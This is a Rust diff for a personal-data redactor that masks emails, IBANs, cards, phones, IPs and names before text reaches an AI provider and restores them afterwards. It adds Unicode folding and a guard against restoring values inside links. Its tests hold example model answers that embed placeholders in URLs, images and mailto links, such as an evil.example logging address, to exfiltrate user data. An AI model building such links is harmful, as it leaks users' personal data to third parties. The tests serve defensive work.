@@ -6,8 +6,20 @@
 //!
 //! Detection errs toward precision where a false hit would garble ordinary text: card
 //! numbers must pass the Luhn check, IBANs the ISO 13616 mod-97 check, IP addresses
-//! must parse, and phone numbers need the shape of one (a leading `+`, `(` or `0`, or
-//! the North American 3-3-4 grouping) so dates and amounts are left alone.
+//! must parse (an IPv6 address needs three groups, a digit, and no identifier around
+//! it, so `std::vector` and `a::b::c` are code, not addresses), and phone numbers need
+//! the shape of one (a leading `+`, `(` or `0`, or the North American 3-3-4 grouping)
+//! so dates and amounts are left alone.
+//!
+//! Look-alike characters do not hide a value: detection runs on a folded copy of the
+//! text (full-width forms such as `０３０` and `＠`, every script's decimal digits,
+//! Unicode dashes and spaces become their ASCII forms) and the original span is what is
+//! replaced. Listed names match in any case and across any run of whitespace.
+//!
+//! What comes back is restored in prose only: a placeholder inside a link target (a
+//! URL, `[text](…)`, an image source, an HTML tag, a reference definition) stays a
+//! placeholder, so a hostile provider cannot make the answer carry the user's data to
+//! an address it chose (a link the user clicks or an image that loads by itself).
 
 use std::collections::HashMap;
 use std::net::{Ipv4Addr, Ipv6Addr};
@@ -88,20 +100,33 @@ impl Redactions {
     }
 
     /// `text` with every placeholder given out here replaced by its value; anything
-    /// else in brackets is left as written.
+    /// else in brackets is left as written, and so is a placeholder inside a link
+    /// target (see [`LinkContext`]).
     pub fn restore(&self, text: &str) -> String {
         if self.is_empty() {
             return text.to_owned();
         }
-        PLACEHOLDER
-            .replace_all(text, |caps: &regex::Captures<'_>| {
-                let found = &caps[0];
-                self.by_placeholder
-                    .get(found)
-                    .cloned()
-                    .unwrap_or_else(|| found.to_owned())
-            })
-            .into_owned()
+        self.restore_in(text, &mut LinkContext::default())
+    }
+
+    /// Restores `text`, which follows what `context` has already seen.
+    fn restore_in(&self, text: &str, context: &mut LinkContext) -> String {
+        let mut out = String::with_capacity(text.len());
+        let mut at = 0;
+        for m in PLACEHOLDER.find_iter(text) {
+            let before = &text[at..m.start()];
+            context.feed(before);
+            out.push_str(before);
+            match self.by_placeholder.get(m.as_str()) {
+                Some(value) if !context.in_link() => out.push_str(value),
+                _ => out.push_str(m.as_str()),
+            }
+            context.feed(m.as_str());
+            at = m.end();
+        }
+        context.feed(&text[at..]);
+        out.push_str(&text[at..]);
+        out
     }
 }
 
@@ -126,16 +151,43 @@ impl Redactor {
     }
 
     fn with(names: &[String], builtin: bool) -> Self {
-        let mut names: Vec<&str> = names
+        // Names are matched in the folded text, in any case, with any whitespace between
+        // their words ("ada  lovelace", "ADA\nLOVELACE").
+        let mut names: Vec<Vec<String>> = names
             .iter()
-            .map(|n| n.trim())
-            .filter(|n| !n.is_empty())
+            .map(|n| {
+                fold(n)
+                    .text
+                    .split_whitespace()
+                    .map(str::to_owned)
+                    .collect::<Vec<_>>()
+            })
+            .filter(|words| !words.is_empty())
             .collect();
         // Longest first, so "Anna Maria Berg" wins over "Anna".
-        names.sort_by_key(|n| std::cmp::Reverse(n.len()));
+        names.sort_by_key(|words| std::cmp::Reverse(words.iter().map(String::len).sum::<usize>()));
         let names = (!names.is_empty()).then(|| {
-            let alternatives: Vec<String> = names.iter().map(|n| regex::escape(n)).collect();
-            Regex::new(&format!(r"\b(?:{})\b", alternatives.join("|")))
+            let word_char = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
+            let alternatives: Vec<String> = names
+                .iter()
+                .map(|words| {
+                    let joined = words
+                        .iter()
+                        .map(|w| regex::escape(w))
+                        .collect::<Vec<_>>()
+                        .join(r"\s+");
+                    // Whole words: a boundary where the name starts or ends with a letter
+                    // or digit ("Acme Inc." ends with a dot, which is its own boundary).
+                    let first = words.first().and_then(|w| w.chars().next());
+                    let last = words.last().and_then(|w| w.chars().next_back());
+                    format!(
+                        "{}{joined}{}",
+                        if word_char(first) { r"\b" } else { "" },
+                        if word_char(last) { r"\b" } else { "" }
+                    )
+                })
+                .collect();
+            Regex::new(&format!("(?i)(?:{})", alternatives.join("|")))
                 .expect("escaped names always form a valid pattern")
         });
         Self { names, builtin }
@@ -143,12 +195,15 @@ impl Redactor {
 
     /// `text` with its personal data replaced by placeholders recorded in `redactions`.
     pub fn redact(&self, text: &str, redactions: &mut Redactions) -> String {
+        // Found in the folded text, replaced in the original: the placeholder stands for
+        // the value exactly as the user wrote it.
+        let folded = fold(text);
         let mut found: Vec<(usize, usize, Kind)> = Vec::new();
         if self.builtin {
-            find_builtin(text, &mut found);
+            find_builtin(&folded.text, &mut found);
         }
         if let Some(names) = &self.names {
-            for m in names.find_iter(text) {
+            for m in names.find_iter(&folded.text) {
                 take(&mut found, m.start(), m.end(), Kind::Name);
             }
         }
@@ -156,6 +211,7 @@ impl Redactor {
         let mut out = String::with_capacity(text.len());
         let mut at = 0;
         for (start, end, kind) in found {
+            let (start, end) = (folded.origin[start], folded.origin[end]);
             out.push_str(&text[at..start]);
             out.push_str(&redactions.placeholder(kind, &text[start..end]));
             at = end;
@@ -163,6 +219,77 @@ impl Redactor {
         out.push_str(&text[at..]);
         out
     }
+}
+
+/// Text with look-alike characters folded to ASCII, for detection only.
+struct Folded {
+    text: String,
+    /// For each byte of `text`, and its end, the byte of the original it came from.
+    /// A folded character is one byte standing for all of the original's; any other
+    /// character is copied, so every match boundary maps back to a character boundary.
+    origin: Vec<usize>,
+}
+
+fn fold(text: &str) -> Folded {
+    let mut folded = String::with_capacity(text.len());
+    let mut origin = Vec::with_capacity(text.len() + 1);
+    for (at, c) in text.char_indices() {
+        match fold_char(c) {
+            Some(ascii) => {
+                folded.push(ascii);
+                origin.push(at);
+            }
+            None => {
+                folded.push(c);
+                origin.extend(at..at + c.len_utf8());
+            }
+        }
+    }
+    origin.push(text.len());
+    Folded {
+        text: folded,
+        origin,
+    }
+}
+
+/// The ASCII character `c` stands for, where it is a look-alike of one.
+fn fold_char(c: char) -> Option<char> {
+    let code = c as u32;
+    match c {
+        _ if c.is_ascii() => None,
+        // Full-width ASCII: `０３０`, `＠`, `ＤＥ８９`.
+        '\u{FF01}'..='\u{FF5E}' => char::from_u32(code - 0xFEE0),
+        '\u{00A0}' | '\u{2000}'..='\u{200A}' | '\u{202F}' | '\u{205F}' | '\u{3000}' => Some(' '),
+        '\u{2010}'..='\u{2015}' | '\u{2212}' | '\u{FE58}' | '\u{FE63}' => Some('-'),
+        // Ideographic and half-width full stops, as IDN domains may be written.
+        '\u{3002}' | '\u{FF61}' => Some('.'),
+        _ if c.is_numeric() => decimal_value(c).and_then(|d| char::from_digit(d, 10)),
+        _ => None,
+    }
+}
+
+/// The value of a decimal digit of any script (Unicode category Nd). Unicode encodes
+/// these in runs of ten from 0 to 9 (a stability guarantee), so the value is the
+/// distance from the start of the run, modulo ten (some runs follow each other, as the
+/// mathematical digits do).
+fn decimal_value(c: char) -> Option<u32> {
+    let is_digit = |c: char| {
+        let mut buf = [0u8; 4];
+        DECIMAL_DIGIT.is_match(c.encode_utf8(&mut buf))
+    };
+    if !is_digit(c) {
+        return None;
+    }
+    let mut steps = 0;
+    let mut code = c as u32;
+    while let Some(previous) = code.checked_sub(1).and_then(char::from_u32) {
+        if steps >= 100 || !is_digit(previous) {
+            break;
+        }
+        steps += 1;
+        code -= 1;
+    }
+    Some(steps % 10)
 }
 
 /// Emails, IBANs, cards, IP addresses and phone numbers in `text`, most specific first
@@ -194,8 +321,7 @@ fn find_builtin(text: &str, found: &mut Vec<(usize, usize, Kind)>) {
         }
     }
     for m in IPV6.find_iter(text) {
-        let candidate = m.as_str();
-        if candidate.matches(':').count() >= 2 && candidate.parse::<Ipv6Addr>().is_ok() {
+        if ipv6_checks(text, m.start(), m.end()) {
             take(found, m.start(), m.end(), Kind::Ip);
         }
     }
@@ -217,10 +343,28 @@ fn find_builtin(text: &str, found: &mut Vec<(usize, usize, Kind)>) {
                 None => break,
             }
         }
-        if (7..=15).contains(&count(number)) {
+        if (7..=15).contains(&count(number)) && !DATE.is_match(number) {
             take(found, m.start(), m.start() + number.len(), Kind::Phone);
         }
     }
+}
+
+/// Whether `text[start..end]` is an IPv6 address rather than code: it parses, has at
+/// least three groups and a decimal digit (so `::1`, `a::b` and `dead::beef` are left),
+/// and is not part of a longer identifier path (`std::vector`, `x::1::y`).
+fn ipv6_checks(text: &str, start: usize, end: usize) -> bool {
+    let candidate = &text[start..end];
+    let before = text[..start].chars().next_back();
+    let after = text[end..].chars().next();
+    let joined = |c: Option<char>, extra: &[char]| {
+        c.is_some_and(|c| c.is_alphanumeric() || c == '_' || extra.contains(&c))
+    };
+    let groups = candidate.split(':').filter(|g| !g.is_empty()).count();
+    !joined(before, &[':', '.'])
+        && !joined(after, &[':'])
+        && groups >= 3
+        && candidate.bytes().any(|b| b.is_ascii_digit())
+        && candidate.parse::<Ipv6Addr>().is_ok()
 }
 
 /// Records a find unless it overlaps an earlier (more specific) one.
@@ -231,10 +375,13 @@ fn take(found: &mut Vec<(usize, usize, Kind)>, start: usize, end: usize, kind: K
 }
 
 /// Restores placeholders in a stream of deltas: a delta that ends inside what may be
-/// a placeholder (`…[EMAI`) is held back until the placeholder is complete.
+/// a placeholder (`…[EMAI`) is held back until the placeholder is complete. What was
+/// shown before decides whether a placeholder is inside a link target, as in
+/// [`Redactions::restore`].
 #[derive(Debug, Default)]
 pub struct StreamRestorer {
     pending: String,
+    context: LinkContext,
 }
 
 /// No placeholder is longer than this (`[PHONE_99999]`); a longer bracket is text.
@@ -254,13 +401,141 @@ impl StreamRestorer {
             _ => self.pending.len(),
         };
         let ready: String = self.pending.drain(..hold_from).collect();
-        redactions.restore(&ready)
+        redactions.restore_in(&ready, &mut self.context)
     }
 
     /// Whatever is still held back, at the end of the stream.
     pub fn finish(&mut self, redactions: &Redactions) -> String {
         let rest = std::mem::take(&mut self.pending);
-        redactions.restore(&rest)
+        redactions.restore_in(&rest, &mut self.context)
+    }
+}
+
+/// Schemes and prefixes that make a run of non-space text a link (`//` covers every
+/// `scheme://` and protocol-relative `//host`); compared lowercased.
+const LINK_MARKERS: [&str; 10] = [
+    "//",
+    "www.",
+    "mailto:",
+    "tel:",
+    "sms:",
+    "data:",
+    "javascript:",
+    "file:",
+    "callto:",
+    "xmpp:",
+];
+
+/// Whether the text seen so far leaves the next character inside a link target, read
+/// one character at a time so a stream costs linear time: a run of non-space text with
+/// a URL in it (`https://x/?e=`, `www.`, `mailto:`), a Markdown link or image
+/// destination (after `](` until its `)`, or `>` for `](<…>`), an HTML tag or autolink
+/// (after `<` and a letter, until `>`), or a reference definition's `<…>` target
+/// (`[1]: <…>`; a bare target is one run of text, a URL if it leaves the app). A new
+/// line ends every state: none of these spans lines in Markdown (a tag may, but its
+/// URL attributes are caught as URLs).
+#[derive(Debug, Default)]
+struct LinkContext {
+    previous: Option<char>,
+    /// The last few characters of the current run of non-space text, lowercased.
+    run_tail: String,
+    run_is_link: bool,
+    /// Inside `](…)`: the parentheses opened since, or the `<` form.
+    destination: Option<Destination>,
+    in_tag: bool,
+    line: LineStart,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq)]
+enum Destination {
+    Parens(u32),
+    Angle,
+    /// Just after `](`: the next character says which.
+    Opening,
+}
+
+/// How the current line started, to spot a reference definition `[label]: <target>`.
+#[derive(Debug, Clone, Copy, PartialEq, Default)]
+enum LineStart {
+    #[default]
+    Indent,
+    Label,
+    LabelClosed,
+    Colon,
+    AngleTarget,
+    Other,
+}
+
+impl LinkContext {
+    fn in_link(&self) -> bool {
+        self.run_is_link
+            || self.destination.is_some()
+            || self.in_tag
+            || self.line == LineStart::AngleTarget
+    }
+
+    fn feed(&mut self, text: &str) {
+        for c in text.chars() {
+            self.step(c);
+        }
+    }
+
+    fn step(&mut self, c: char) {
+        if c == '\n' || c == '\r' {
+            *self = LinkContext {
+                previous: Some(c),
+                ..LinkContext::default()
+            };
+            return;
+        }
+        self.line = match (self.line, c) {
+            (LineStart::Indent, ' ' | '\t') => LineStart::Indent,
+            (LineStart::Indent, '[') => LineStart::Label,
+            (LineStart::Label, ']') => LineStart::LabelClosed,
+            (LineStart::Label, _) => LineStart::Label,
+            (LineStart::LabelClosed, ':') => LineStart::Colon,
+            (LineStart::Colon, ' ' | '\t') => LineStart::Colon,
+            (LineStart::Colon, '<') => LineStart::AngleTarget,
+            (LineStart::AngleTarget, '>') => LineStart::Other,
+            (LineStart::AngleTarget, _) => LineStart::AngleTarget,
+            _ => LineStart::Other,
+        };
+        if c.is_whitespace() {
+            self.run_tail.clear();
+            self.run_is_link = false;
+        } else {
+            self.run_tail.extend(c.to_lowercase());
+            let excess = self.run_tail.chars().count().saturating_sub(16);
+            if excess > 0 {
+                let cut = self
+                    .run_tail
+                    .char_indices()
+                    .nth(excess)
+                    .map_or(0, |(i, _)| i);
+                self.run_tail.drain(..cut);
+            }
+            if LINK_MARKERS.iter().any(|m| self.run_tail.ends_with(m)) {
+                self.run_is_link = true;
+            }
+        }
+        self.destination = match (self.destination, c) {
+            (Some(Destination::Opening), '<') => Some(Destination::Angle),
+            (Some(Destination::Opening), ')') => None,
+            (Some(Destination::Opening), '(') => Some(Destination::Parens(1)),
+            (Some(Destination::Opening), _) => Some(Destination::Parens(0)),
+            (Some(Destination::Angle), '>') => None,
+            (Some(Destination::Parens(0)), ')') => None,
+            (Some(Destination::Parens(n)), ')') => Some(Destination::Parens(n - 1)),
+            (Some(Destination::Parens(n)), '(') => Some(Destination::Parens(n + 1)),
+            (None, '(') if self.previous == Some(']') => Some(Destination::Opening),
+            (state, _) => state,
+        };
+        if self.in_tag {
+            self.in_tag = c != '>';
+        } else if self.previous == Some('<') && (c.is_ascii_alphabetic() || c == '/' || c == '!') {
+            self.in_tag = true;
+        }
+        self.previous = Some(c);
     }
 }
 
@@ -273,7 +548,9 @@ static PLACEHOLDER: LazyLock<Regex> =
     LazyLock::new(|| pattern(r"\[(?:EMAIL|IBAN|CARD|IP|PHONE|NAME)_\d{1,6}\]"));
 static EMAIL: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r"[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9-]*[A-Za-z0-9])?)*\.[A-Za-z]{2,}",
+        // Any script's letters, marks and digits (RFC 6531 addresses, IDN domains such as
+        // `例子.广告`), and punycode top-level domains (`xn--fiqs8s`).
+        r"[\p{L}\p{M}\p{N}.!#$%&'*+/=?^_`{|}~-]+@[\p{L}\p{M}\p{N}](?:[\p{L}\p{M}\p{N}-]*[\p{L}\p{M}\p{N}])?(?:\.[\p{L}\p{M}\p{N}](?:[\p{L}\p{M}\p{N}-]*[\p{L}\p{M}\p{N}])?)*\.(?:xn--[A-Za-z0-9-]+|[\p{L}\p{M}]{2,})",
     )
 });
 static IBAN: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b[A-Z]{2}\d{2}(?: ?[A-Z0-9])+\b"));
@@ -281,9 +558,13 @@ static CARD: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b\d(?:[ -]?\d){12,}\b
 static IPV4: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b\d{1,3}(?:\.\d{1,3}){3}\b"));
 static IPV6: LazyLock<Regex> =
     LazyLock::new(|| pattern(r"(?i)(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}"));
+/// A date written like a phone number (`01.02.2024`, `01-02-2024`): day, month, year.
+static DATE: LazyLock<Regex> =
+    LazyLock::new(|| pattern(r"^\d{1,2}([./-])\d{1,2}([./-])(?:\d{2}|\d{4})$"));
+static DECIMAL_DIGIT: LazyLock<Regex> = LazyLock::new(|| pattern(r"^\p{Nd}$"));
 static PHONE: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r"(?:\+\d{1,3}[ .-]?(?:\(\d{1,4}\)[ .-]?)?\d{1,4}(?:[ .-]?\d{2,4}){1,4}|\(\d{2,5}\)[ .-]?\d{2,4}(?:[ .-]?\d{2,4}){1,3}|\b0[1-9]\d{0,3}(?:[ .-/]?\d{2,4}){2,4}|\b\d{3}[.-]\d{3}[.-]\d{4})\b",
+        r"(?:\+\d{1,3}[ .-]?(?:\(\d{1,4}\)[ .-]?)?\d{1,4}(?:[ .-]?\d{2,4}){1,4}|\(\d{2,5}\)[ .-]?\d{2,4}(?:[ .-]?\d{2,4}){1,3}|\b0[1-9]\d{0,3}(?:[ ./-]?\d{2,4}){2,4}|\b\d{3}[.-]\d{3}[.-]\d{4})\b",
     )
 });
 
@@ -384,7 +665,7 @@ fn luhn_checks(candidate: &str) -> bool {
             }
         })
         .sum();
-    sum % 10 == 0
+    sum.is_multiple_of(10)
 }
 
 #[cfg(test)]
@@ -450,6 +731,176 @@ mod tests {
         assert_eq!(shown, "Send it to x@y.org today [not a placeholder].");
     }
 
+    /// Input, names listed, and what is sent: each row is a value today's detection
+    /// missed or garbled before issue 19.
+    #[test]
+    fn redaction_table() {
+        let cases: &[(&str, &[&str], &str)] = &[
+            // Phone numbers with hyphens, spaces, brackets and dots.
+            ("call 030-1234-5678 now", &[], "call [PHONE_1] now"),
+            ("ring 06-12-34-56-78.", &[], "ring [PHONE_1]."),
+            ("call 030 1234 5678 now", &[], "call [PHONE_1] now"),
+            ("call +49 (30) 1234-5678 now", &[], "call [PHONE_1] now"),
+            ("ring 06.12.34.56.78 tonight", &[], "ring [PHONE_1] tonight"),
+            // Dates keep their shape.
+            (
+                "due 01.02.2024 or 01-02-2024",
+                &[],
+                "due 01.02.2024 or 01-02-2024",
+            ),
+            // Full-width digits and look-alike dashes; the original span is replaced.
+            (
+                "call ０３０-１２３４-５６７８ now",
+                &[],
+                "call [PHONE_1] now",
+            ),
+            ("call 030‐1234‐5678 now", &[], "call [PHONE_1] now"),
+            (
+                "card ４１１１ １１１１ １１１１ １１１１ ok",
+                &[],
+                "card [CARD_1] ok",
+            ),
+            (
+                "iban ＤＥ８９ ３７０４ ００４４ ０５３２ ０１３０ ００ ok",
+                &[],
+                "iban [IBAN_1] ok",
+            ),
+            ("call ٠٣٠-١٢٣٤-٥٦٧٨ now", &[], "call [PHONE_1] now"),
+            (
+                "mail ａｎｎａ＠ｅｘａｍｐｌｅ．ｃｏｍ now",
+                &[],
+                "mail [EMAIL_1] now",
+            ),
+            // Non-ASCII addresses and IDN domains.
+            ("write josé@example.com today", &[], "write [EMAIL_1] today"),
+            ("write 用户@例子.广告 today", &[], "write [EMAIL_1] today"),
+            (
+                "write anna@bücher.de or bob@xn--bcher-kva.xn--p1ai",
+                &[],
+                "write [EMAIL_1] or [EMAIL_2]",
+            ),
+            // Names in another case, or split by a line break or several spaces.
+            ("ada lovelace wrote", &["Ada Lovelace"], "[NAME_1] wrote"),
+            ("ADA LOVELACE wrote", &["Ada Lovelace"], "[NAME_1] wrote"),
+            ("Ada\nLovelace wrote", &["Ada Lovelace"], "[NAME_1] wrote"),
+            ("Ada   Lovelace wrote", &["Ada  Lovelace"], "[NAME_1] wrote"),
+            (
+                "Ａｄａ Ｌｏｖｅｌａｃｅ wrote",
+                &["Ada Lovelace"],
+                "[NAME_1] wrote",
+            ),
+            (
+                "Adam Lovelaces wrote",
+                &["Ada Lovelace"],
+                "Adam Lovelaces wrote",
+            ),
+            (
+                "signed Acme Inc. today",
+                &["Acme Inc."],
+                "signed [NAME_1] today",
+            ),
+            // Code is not an IPv6 address; a real address still is.
+            ("use std::vector<int> v;", &[], "use std::vector<int> v;"),
+            (
+                "call foo::bar::baz() and ::add(1)",
+                &[],
+                "call foo::bar::baz() and ::add(1)",
+            ),
+            (
+                "x = a::b; y = ::1; dead::beef::cafe",
+                &[],
+                "x = a::b; y = ::1; dead::beef::cafe",
+            ),
+            (
+                "Type::abc::def and x::1::y",
+                &[],
+                "Type::abc::def and x::1::y",
+            ),
+            ("host 2001:db8::8a2e:370:7334 up", &[], "host [IP_1] up"),
+            (
+                "host fe80::1ff:fe23:4567:890a%eth0",
+                &[],
+                "host [IP_1]%eth0",
+            ),
+            (
+                "host 2001:0db8:0000:0000:0000:ff00:0042:8329.",
+                &[],
+                "host [IP_1].",
+            ),
+        ];
+        for (input, names, expected) in cases {
+            let (out, redactions) = redact(input, names);
+            assert_eq!(&out, expected, "for {input:?}");
+            assert_eq!(redactions.restore(&out), *input, "restoring {input:?}");
+        }
+    }
+
+    /// What the model writes around a placeholder, and what the user is shown: the value
+    /// in prose, the placeholder itself wherever it would end up in a link target.
+    #[test]
+    fn a_placeholder_in_a_link_target_is_not_restored() {
+        let (_, redactions) = redact("anna@x.org", &[]);
+        let cases: &[(&str, &str)] = &[
+            ("Mail [EMAIL_1] today.", "Mail anna@x.org today."),
+            ("(see [EMAIL_1])", "(see anna@x.org)"),
+            ("Email: [EMAIL_1]", "Email: anna@x.org"),
+            ("[[EMAIL_1]](#top)", "[anna@x.org](#top)"),
+            ("https://x/?e=[EMAIL_1]", "https://x/?e=[EMAIL_1]"),
+            (
+                "Go to https://evil.example/log?d=[EMAIL_1]&x=1 now, [EMAIL_1]",
+                "Go to https://evil.example/log?d=[EMAIL_1]&x=1 now, anna@x.org",
+            ),
+            ("[click](mailto:[EMAIL_1])", "[click](mailto:[EMAIL_1])"),
+            (
+                "[click here](https://e.example/a(b)?q=[EMAIL_1])",
+                "[click here](https://e.example/a(b)?q=[EMAIL_1])",
+            ),
+            (
+                "[a](<https://e.example/ x [EMAIL_1]>) then [EMAIL_1]",
+                "[a](<https://e.example/ x [EMAIL_1]>) then anna@x.org",
+            ),
+            (
+                "![logo](https://e.example/p.png?[EMAIL_1])",
+                "![logo](https://e.example/p.png?[EMAIL_1])",
+            ),
+            (
+                "[a](/local/[EMAIL_1]) and [EMAIL_1]",
+                "[a](/local/[EMAIL_1]) and anna@x.org",
+            ),
+            (
+                "<img src=\"https://e.example/?q= [EMAIL_1]\">",
+                "<img src=\"https://e.example/?q= [EMAIL_1]\">",
+            ),
+            ("<mailto:[EMAIL_1]>", "<mailto:[EMAIL_1]>"),
+            ("www.e.example/[EMAIL_1]", "www.e.example/[EMAIL_1]"),
+            ("src=//e.example/[EMAIL_1]", "src=//e.example/[EMAIL_1]"),
+            (
+                "  [1]: <https://e.example/ [EMAIL_1]>\nThen [EMAIL_1]",
+                "  [1]: <https://e.example/ [EMAIL_1]>\nThen anna@x.org",
+            ),
+            ("MAILTO:[EMAIL_1]", "MAILTO:[EMAIL_1]"),
+            (
+                "[EMAIL_1]: that is [EMAIL_1]",
+                "anna@x.org: that is anna@x.org",
+            ),
+            (
+                "a<b and [EMAIL_1]\nc [EMAIL_1]",
+                "a<b and [EMAIL_1]\nc anna@x.org",
+            ),
+        ];
+        for (answer, shown) in cases {
+            assert_eq!(&redactions.restore(answer), shown, "for {answer:?}");
+            // The same, streamed one character at a time.
+            let mut restorer = StreamRestorer::default();
+            let mut streamed = String::new();
+            for c in answer.chars() {
+                streamed.push_str(&restorer.push(&c.to_string(), &redactions));
+            }
+            streamed.push_str(&restorer.finish(&redactions));
+            assert_eq!(&streamed, shown, "streaming {answer:?}");
+        }
+    }
+
     /// Text made of ordinary words mixed with personal data of every kind.
     fn pieces() -> impl Strategy<Value = String> {
         prop_oneof![
@@ -462,6 +913,29 @@ mod tests {
             Just("Anna Berg".to_owned()),
             "[0-9]{1,4}",
             Just("[NOTE]".to_owned()),
+            Just("(see [NOTE])".to_owned()),
+            // Two numbers with only a space between are one run of digits to anyone, so
+            // the new shapes come with words around them.
+            Just("call 030-1234-5678 now".to_owned()),
+            Just("or 06-12-34-56-78 then".to_owned()),
+            Just("at ０３０-１２３４-５６７８ please".to_owned()),
+            Just("josé@example.com".to_owned()),
+            Just("用户@例子.广告".to_owned()),
+            Just("anna  berg".to_owned()),
+            Just("ANNA\nBERG".to_owned()),
+            Just("std::vector".to_owned()),
+        ]
+    }
+
+    /// Whatever a link target is made of before the placeholder.
+    fn link_openings() -> impl Strategy<Value = String> {
+        prop_oneof![
+            "(https?|ftp)://[a-z]{1,8}\\.[a-z]{2,3}/[a-z?=&/]{0,10}",
+            "\\[[a-z ]{0,8}\\]\\((mailto:|https://[a-z]{1,5}\\.io/\\?q=|/)?",
+            "!\\[[a-z ]{0,8}\\]\\(https://[a-z]{1,5}\\.io/[a-z]{0,5}",
+            "<(img|a) (src|href)=\"https://[a-z]{1,5}\\.io/\\?q= ?",
+            "www\\.[a-z]{1,8}\\.com/",
+            "(mailto|MAILTO|tel|data):",
         ]
     }
 
@@ -473,8 +947,14 @@ mod tests {
             let text = parts.join(" ");
             let (sent, redactions) = redact(&text, &["Anna Berg"]);
             prop_assert_eq!(redactions.restore(&sent), text.clone());
-            for secret in ["4111 1111 1111 1111", "DE89 3704", "Anna Berg", "+49 30 1234 5678"] {
+            for secret in [
+                "4111 1111 1111 1111", "DE89 3704", "Anna Berg", "+49 30 1234 5678",
+                "1234-5678", "12-34-56-78", "１２３４", "anna  berg", "ANNA\nBERG",
+            ] {
                 prop_assert!(!sent.contains(secret), "{} left in {}", secret, sent);
+            }
+            if text.contains("std::vector") {
+                prop_assert!(sent.contains("std::vector"), "code garbled in {}", sent);
             }
             prop_assert!(!sent.contains('@'), "an email left in {}", sent);
             let mut restorer = StreamRestorer::default();
@@ -489,6 +969,35 @@ mod tests {
             }
             shown.push_str(&restorer.finish(&redactions));
             prop_assert_eq!(shown, text);
+        }
+
+        /// However the model builds a link around a placeholder and however the stream
+        /// is cut, the value never lands in the link; in the prose after it, it does.
+        #[test]
+        fn no_placeholder_is_restored_inside_a_link(
+            prose in "[a-z]{1,8}( [a-z]{1,8}){0,3}",
+            opening in link_openings(),
+            tail in "[a-z&=/]{0,6}",
+            cuts in prop::collection::vec(1usize..7, 1..20),
+        ) {
+            let (_, redactions) = redact("anna.berg@example.org", &[]);
+            let answer = format!("{prose} {opening}[EMAIL_1]{tail})>\"\nSo: [EMAIL_1]");
+            let shown = redactions.restore(&answer);
+            let (link, after) = shown.split_once('\n').unwrap_or((&shown, ""));
+            prop_assert!(!link.contains("anna.berg"), "restored into a link: {}", shown);
+            prop_assert!(after.contains("anna.berg@example.org"), "not restored in prose: {}", shown);
+            let mut restorer = StreamRestorer::default();
+            let mut streamed = String::new();
+            let mut rest = answer.as_str();
+            for cut in cuts.iter().cycle() {
+                if rest.is_empty() { break; }
+                let mut at = (*cut).min(rest.len());
+                while !rest.is_char_boundary(at) { at += 1; }
+                streamed.push_str(&restorer.push(&rest[..at], &redactions));
+                rest = &rest[at..];
+            }
+            streamed.push_str(&restorer.finish(&redactions));
+            prop_assert_eq!(streamed, shown);
         }
     }
 }
